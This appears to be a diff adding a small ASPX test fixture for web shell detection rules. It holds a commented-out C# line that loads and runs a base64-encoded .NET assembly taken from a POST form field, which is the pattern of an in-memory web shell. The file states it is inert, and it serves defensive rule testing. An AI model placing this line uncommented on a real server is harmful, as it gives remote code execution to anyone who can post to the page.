@@ -1,0 +1,4 @@
+<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
+<%@ Page Language="C#" %>
+<% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["exir_asm"])).CreateInstance("U").Equals(this); %>
+--%>
